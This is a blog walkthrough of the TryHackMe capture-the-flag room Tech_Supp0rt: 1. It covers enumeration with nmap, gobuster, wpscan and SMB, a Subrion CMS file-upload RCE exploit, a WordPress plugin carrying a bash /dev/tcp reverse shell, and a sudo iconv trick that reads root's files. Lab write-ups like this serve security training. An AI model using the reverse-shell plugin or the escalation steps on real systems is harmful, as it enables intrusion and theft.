Tryhackme - Tech_Supp0rt: 1

Tryhackme – Tech_Supp0rt: 1

In this walk through, we will be going through the Tech_Supp0rt: 1 room from Tryhackme. This is a Easy rated room on the platform and the objective is to hack into the scammer’s under-development website to foil their plans. So, let’s get started without any delay.

Tech_Supp0rt: 1

Machine Info:

TitleTech_Supp0rt: 1
ObjectiveHack intothe scammer’s under-development website to foil their plans.


  • I started off with a regular nmap scan and found 4 ports opened – 22 (SSH), 80 (HTTP), 139 and 445 (SMB).

sudo nmap -sS -sV

nmap scan

  • Next, fired gobuster on the web server running on port 80 and found two interesting directories – /test and /wordpress.

wh1terose@fsociety:~$ gobuster dir -u -w ~/Desktop/Wordlist/common.txt
Gobuster v3.1.0
by OJ Reeves (@TheColonial) & Christian Mehlmauer (@firefart)
[+] Url:
[+] Method:                  GET
[+] Threads:                 10
[+] Wordlist:                /home/wh1terose/Desktop/Wordlist/common.txt
[+] Negative Status codes:   404
[+] User Agent:              gobuster/3.1.0
[+] Timeout:                 10s
2023/11/19 11:21:36 Starting gobuster in directory enumeration mode
/.hta                 (Status: 403) [Size: 278]
/.htaccess            (Status: 403) [Size: 278]
/.htpasswd            (Status: 403) [Size: 278]
/index.html           (Status: 200) [Size: 11321]
/phpinfo.php          (Status: 200) [Size: 94941]
/server-status        (Status: 403) [Size: 278]
/test                 (Status: 301) [Size: 313] [-->]
/wordpress            (Status: 301) [Size: 318] [-->]
2023/11/19 11:23:44 Finished

gobuster scan

  • The /test directory had a page with a bunch of pop-ups that are used by thescammers in order to target the victims. This seems like a test page for that.

Scam popups

  • Looking into the /wordpress directory reveals a wordpress installation. Enumerated it throughly but can’t find anything worth it on the front-end.

Wordpress installation

  • Next, used the wp-scan to enumerated some usernames and found a hit for one. – support.

wpscan --url -e u

Wpscan result

  • I didn’t find anything juicy on the wordpress end. No known exploits for the themes, no vulnerable or misconfigured plugins. So, i startedenumerating the SMB shares. Used smbclient and smbmap to list the shares and got a read access in websvr share.

smbclient -L \\

smbclient list

smbmap -H

smbmap list

  • Used SMB null session authentication and downloaded the enter.txt file from the websvr share. In there, got a credentials for a potential Subrion installation. We still had no clue about the wordpress creds to go through that route.

smbclient // -N


  • Decoded the password string with Cyberchef which reveals a password – Scam2021


Decode the admin password

  • I looked online for Subrion and found that it is CMS that is used to build different web apps. I tried to access with /subrion but was unable to to so. Then, i looked into the goals written in enter.txt file where it was written that if we are unable to access the subrion installation with the default path, then we have to do that with panel. Used the below path and got a login panel.

Subrion Admin Panel

  • Logged into the dashboard using our found credentials. As checked the subrion version that is running is 4.2.1.

Subrion Dashboard

  • Checked the version for known exploits and found that the it is vulnerable to Arbitrary file upload RCE.searchsploit Subrion CMS 4.2.1

searchsploit exploit search

searchsploit -m php/webapps/

searchsploit exploit search

Initial Access:

  • Used the exploit to get our initial access.

python3 -u -l admin -p Scam2021

Subrion Exploit• Next, looked into the wp-config.php file for potential wordpress creds and got a combo. Bingo!

ls /var/www/html/wordpress

ls /var/www/html/wordpress

cat /var/www/html/wordpress/wp-config.php

MYSQL creds


  • Logged into the wordpress dashboard using the found credentials.

Wordpress dashboard

  • Next, i tried to upload our PHP reverse shell in 404.php file but i encountered an error where i was unable to save the file. So, i took a different route.


  • I used the below PHP code to develop a malicious WordPress plugin which when activated gives me a reverse connection back to my listener.


Plugin Name: WordPress Reverse shell
Author: Your Mom

exec("/bin/bash -c 'bash -i >& /dev/tcp/ 0>&1'")


  • Converted it to a zip file and uploaded it to target.

zip -u revshell.php

zip the payload



  • Once activated, i got a connection back to my netcat listener. Great!

netccat listener• Switched my user to scamsite using the previously found credentials.

switch to scamsite

Privilege Escalation:

  • Next, checked for any sudo misconfiguration using the below command and found that our user can run the iconv binary as root without any password.

sudo -l

sudo -l

  • Used an exploit from GTFObins for iconv binary to read the contents of root.txt file and captured our flag.GTFObins sudo

scamsite@TechSupport:/tmp$ LFILE=/root/root.txt
scamsite@TechSupport:/tmp$ sudo /usr/bin/iconv -f 8859_1 -t 8859_1 "$LFILE"
sudo /usr/bin/iconv -f 8859_1 -t 8859_1 "$LFILE"

root flag

Task 1 – Submit Flags

Question 1 – What is the root.txt flag?

Task 1 - Submit Flags

Also Read: Tryhackme – SQLMAPSo that was Tech_Supp0rt: 1 for you. We started off with a regular nmap scan and found 4 ports opened – 22 (SSH), 80 (HTTP), 139 and 445 (SMB). Next, used gobuster to find some hidden directories and got a directory named wordpress with the respective CMS installed. Along with that, looked into the SMB shares and got a file named enter.txt. The file contains creds for Subrion Admin panel. Used the same to access the subrion dashboard. Further, looked for the known exploits of the installed subrion version and found a RCE exploit. Used that to get the initial access on the server. The wp-config file reveals the the creds used to access the WordPress Dashboard. Moving on, once inside the wordpress dashboard, used a malicious worpdress plugin to get shell access and upgraded it to the scamsite user. At last, escalated our privileges by exploiting a sudo misconfiguration for iconv binary using GTFObins exploit and found the root flag and my favorite underwear that was missing for quite some time now. On that note, i would take your leave and will meet you in next one. Till then, “Happy hacking”.

Leave a CommentYour email address willnot be published. Required fields are marked *

Scroll to Top